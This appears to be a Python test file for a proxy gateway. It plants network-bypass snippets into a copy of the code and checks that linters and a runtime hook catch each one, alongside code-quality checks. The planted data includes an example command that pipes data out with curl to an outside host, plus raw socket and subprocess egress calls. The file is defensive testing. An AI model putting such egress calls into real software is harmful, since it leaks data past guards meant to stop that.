"""The doors and the layers hold: every planted bypass is caught by the tool that is there to catch it.

Static bypasses are planted into a copy of the tree and judged by the real tools with the real configuration; dynamic
ones run inside a gate whose every connection, look-up and process start is watched (``hooked_gate``). Keeps to
style.md §7.4: each guard catches what the others miss.
"""

from __future__ import annotations

import ast
import asyncio
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import aiohttp
import pytest
from fake_cloud import FakeCloud

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("proxy", "policies", "redaction", "attestation")
SUPPORT = ROOT / "tests" / "support"
KEY = "hooked-test-app-key-0001"
BIN = Path(sys.executable).parent

RUFF, IMPORTS = "ruff", "lint-imports"
PLANTS = [
    ("redaction/spans.py", "import aiohttp\n\nasync def f(): return aiohttp.ClientSession()", (RUFF, IMPORTS)),
    ("proxy/server.py", "from aiohttp import ClientSession as CS\n\ndef f(): return CS()", (RUFF,)),
    ("proxy/server.py", "import aiohttp.client as c\n\ndef f(): return c.ClientSession()", (RUFF,)),
    ("proxy/server.py", "import aiohttp\n\ndef f(): return aiohttp.request('GET', 'x')", (RUFF,)),
    ("proxy/server.py", "from aiohttp import TCPConnector\n\ndef f(): return TCPConnector()", (RUFF,)),
    ("proxy/rewrite.py", "import socket as k\n\ndef f(): return k.socket()", (RUFF, IMPORTS)),
    (
        "proxy/server.py",
        "import socket as k\n\ndef f(): k.socket(k.AF_INET, k.SOCK_DGRAM).sendto(b'', ('h', 1))",
        (RUFF,),
    ),
    ("proxy/server.py", "import socket as k\n\ndef f(): return k.getaddrinfo('h', 1)", (RUFF,)),
    ("proxy/server.py", "from urllib import request\n\ndef f(): return request.urlopen('x')", (RUFF,)),
    ("proxy/server.py", "import http.client as h\n\ndef f(): return h.HTTPSConnection('h')", (RUFF,)),
    ("policies/facts.py", "import requests\n\ndef f(): return requests.get('x')", (RUFF, IMPORTS)),
    ("attestation/verify.py", "import httpx\n\ndef f(): return httpx.get('x')", (RUFF, IMPORTS)),
    ("proxy/server.py", "import asyncio\n\nasync def f(): return await asyncio.open_connection('h', 1)", (RUFF,)),
    ("proxy/server.py", "import asyncio\n\nasync def f(): asyncio.create_task(asyncio.sleep(1))", (RUFF,)),
    ("proxy/server.py", "import os\n\ndef f(): os.system('curl -d @- example.org')", (RUFF,)),
    ("proxy/server.py", "import subprocess\n\ndef f(): subprocess.run(['curl', 'example.org'])", (RUFF,)),
    ("attestation/verify.py", "import subprocess\n\ndef f(): return subprocess", (IMPORTS,)),
    ("policies/decide.py", "from proxy.egress import DataDoor\n\ndef f(): return DataDoor", (IMPORTS,)),
    ("redaction/spans.py", "from attestation.types import Claims\n\ndef f(): return Claims", (IMPORTS,)),
    ("proxy/flow.py", "from proxy.egress import DataDoor\n\ndef f(): return DataDoor", (IMPORTS,)),
    ("proxy/server.py", "from proxy.wires import HttpWire\n\ndef f(): return HttpWire", (IMPORTS,)),
    ("proxy/flow.py", "from proxy.audit.sqlite import SqliteStore\n\ndef f(): return SqliteStore", (IMPORTS,)),
    ("proxy/dialects/sse.py", "from proxy.flow import Flow\n\ndef f(): return Flow", (IMPORTS,)),
    ("proxy/server.py", "import sqlite3\n\ndef f(): return sqlite3", (IMPORTS,)),
    ("proxy/server.py", "import spacy\n\ndef f(): return spacy", (IMPORTS,)),
]
SWALLOWING: dict[str, int] = {}
"""Files with broad handlers that give no reason; the list may only shrink."""
BYPASSES = {
    "create_connection": "socket.connect",
    "importlib": "socket.connect",
    "sendto": "socket.sendto",
    "getaddrinfo": "socket.getaddrinfo",
    "popen": "subprocess.Popen",
    "system": "os.system",
}


@pytest.fixture(scope="module")
def copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The four packages and the tools' configuration, free to be spoilt."""
    at = tmp_path_factory.mktemp("tree")
    for name in PACKAGES:
        shutil.copytree(ROOT / name, at / name, ignore=shutil.ignore_patterns("__pycache__", "data", "roots"))
    shutil.copy(ROOT / "pyproject.toml", at)
    return at


def judge(tool: str, tree: Path, file: str) -> tuple[int, str]:
    """Exit code and words of the real tool."""
    commands = {
        RUFF: [str(BIN / "ruff"), "check", "--no-cache", "--select", "TID251,S603,S604,S605,S606,S607", file],
        IMPORTS: [str(BIN / "lint-imports"), "--no-cache"],
    }
    env = {**os.environ, "PYTHONPATH": str(tree), "NO_COLOR": "1"}
    done = subprocess.run(commands[tool], cwd=tree, env=env, capture_output=True, text=True, timeout=120, check=False)
    return done.returncode, done.stdout + done.stderr


CASES = [
    pytest.param(file, code, tool, id=f"{tool}: {file}: {code.splitlines()[0]}")
    for file, code, tools in PLANTS
    for tool in tools
]


@pytest.mark.parametrize(("file", "code", "tool"), CASES)
def test_a_planted_bypass_is_caught(copy: Path, file: str, code: str, tool: str) -> None:
    clean = (copy / file).read_text("utf-8")
    (copy / file).write_text(f"{clean}\n\n{code}\n", "utf-8")
    try:
        status, said = judge(tool, copy, file)
    finally:
        (copy / file).write_text(clean, "utf-8")
    assert status == 1, said
    module = file.removesuffix(".py").replace("/", ".")
    assert (file if tool == RUFF else module) in said


@pytest.mark.parametrize("tool", [RUFF, IMPORTS])
def test_the_tree_without_a_bypass_passes(copy: Path, tool: str) -> None:
    status, said = judge(tool, copy, ".")
    assert status == 0, said


async def test_a_whole_request_touches_the_network_through_the_door_only(tmp_path: Path) -> None:
    planned = ["-", "-", *BYPASSES]
    seen, connected = await watched(tmp_path, planned)
    assert connected >= 1, "the hook did not even see the door"
    assert {k: v for k, v in seen.items() if k in {"start", "0", "1", "stop"}} == {}
    caught = {kind: seen.get(str(i)) for i, kind in enumerate(planned) if kind != "-"}
    assert {kind: BYPASSES[kind] in (events or ()) for kind, events in caught.items()} == dict.fromkeys(BYPASSES, True)


async def watched(folder: Path, planned: list[str]) -> tuple[dict[str, list[str]], int]:
    """Runs a watched gate; one request per entry, the second of them streaming."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join((str(ROOT), str(SUPPORT)))}
    pipe = asyncio.subprocess.PIPE
    async with FakeCloud() as cloud:
        args = (str(SUPPORT / "hooked_gate.py"), str(folder), cloud.url, KEY, ",".join(planned))
        gate = await asyncio.create_subprocess_exec(sys.executable, *args, env=env, stdin=pipe, stdout=pipe)
        assert gate.stdout is not None and gate.stdin is not None
        url = (await asyncio.wait_for(gate.stdout.readline(), 60)).decode().strip()
        headers = {"authorization": f"Bearer {KEY}"}
        async with aiohttp.ClientSession(headers=headers) as app:
            for i, _ in enumerate(planned):
                message = {"role": "user", "content": "Write to anna.berg@example.com, please."}
                body = {"model": "gpt-4o", "messages": [message], "stream": i == 1}
                async with app.post(f"{url}/v1/chat/completions", json=body) as answer:
                    assert answer.status == 200
                    assert i == 1 or "anna.berg@example.com" in await answer.text()
        gate.stdin.close()
        told = json.loads(await asyncio.wait_for(gate.stdout.readline(), 60))
        assert await gate.wait() == 0
    return told["outside"], told["inside"]


# -- what a reader relies on ----------------------------------------------------------------------------------------


def sources() -> list[Path]:
    return [p for name in PACKAGES for p in sorted((ROOT / name).rglob("*.py"))]


def test_the_package_names_cannot_be_started_with_python_m() -> None:
    """``python -m proxy`` would start whichever distribution wrote its files last (ADR 0001)."""
    assert not [name for name in PACKAGES if (ROOT / name / "__main__.py").exists()]


def test_no_module_is_longer_than_600_lines() -> None:
    assert [str(p.relative_to(ROOT)) for p in sources() if len(p.read_text("utf-8").splitlines()) > 600] == []


def test_no_function_is_longer_than_60_lines() -> None:
    long = [
        f"{path.relative_to(ROOT)}:{node.lineno} {node.name}"
        for path in sources()
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) and (node.end_lineno or 0) - node.lineno >= 60
    ]
    assert long == []


def test_no_module_keeps_state_in_globals() -> None:
    found = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for path in sources()
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Global)
    ]
    assert found == []


def broad(source: str) -> list[int]:
    """Lines of handlers that catch everything, unless they raise again or their line says why."""
    lines = source.splitlines()
    found = []
    for node in ast.walk(ast.parse(source)):
        if not isinstance(node, ast.ExceptHandler):
            continue
        names = {n.id for n in ast.walk(node.type) if isinstance(n, ast.Name)} if node.type is not None else {"bare"}
        if not names & {"Exception", "BaseException", "bare"}:
            continue
        raises = isinstance(node.body[-1], ast.Raise)
        if not raises and not re.search(r"#.*[a-z]{3,} [a-z]{2,}", lines[node.lineno - 1]):
            found.append(node.lineno)
    return found


def test_nothing_swallows_every_exception_without_saying_why() -> None:
    found = {str(p.relative_to(ROOT)): len(broad(p.read_text("utf-8"))) for p in sources()}
    assert {k: n for k, n in found.items() if n} == SWALLOWING


def test_the_walk_sees_a_swallowed_exception() -> None:
    assert broad("try:\n    f()\nexcept Exception:\n    pass\n") == [3]
    assert broad("try:\n    f()\nexcept (ValueError, BaseException):\n    pass\n") == [3]
    assert broad("try:\n    f()\nexcept:\n    pass\n") == [3]
    assert broad("try:\n    f()\nexcept BaseException:\n    g()\n    raise\n") == []
    assert broad("try:\n    f()\nexcept Exception:  # whatever a detector raises is uninspected\n    pass\n") == []


def test_every_module_says_what_it_is_for() -> None:
    silent = [
        p for p in sources() if p.name != "__init__.py" and not ast.get_docstring(ast.parse(p.read_text("utf-8")))
    ]
    assert [str(p.relative_to(ROOT)) for p in silent] == []
